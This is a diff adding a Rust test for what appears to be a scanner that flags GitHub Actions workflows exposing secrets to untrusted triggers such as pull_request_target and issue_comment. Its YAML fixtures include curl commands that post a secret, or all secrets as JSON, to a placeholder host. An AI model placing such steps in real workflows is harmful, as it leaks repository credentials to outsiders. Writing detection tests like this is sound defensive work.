@@ -57,6 +57,19 @@ fn editors_run_tasks_programs_and_commands_of_containers() {
 }
 
 #[test]
+fn workflows_that_run_for_anybody_see_no_secrets() {
+    check(
+        ".github/workflows/check.yml",
+        &[
+            ("on: push\njobs:\n- run: curl -d \"${{ secrets.KEY }}\" x\n", &[]),
+            ("on: pull_request_target\njobs:\n- run: pytest\n", &[]),
+            ("on: pull_request_target\njobs:\n- run: curl -d \"${{ toJSON(secrets) }}\" x\n", &["pull_request_target"]),
+            ("on: issue_comment\njobs:\n- run: x ${{ secrets.KEY }}\n", &["issue_comment"]),
+        ],
+    );
+}
+
+#[test]
 fn agents_start_servers_and_hooks() {
     check(
         ".mcp.json",
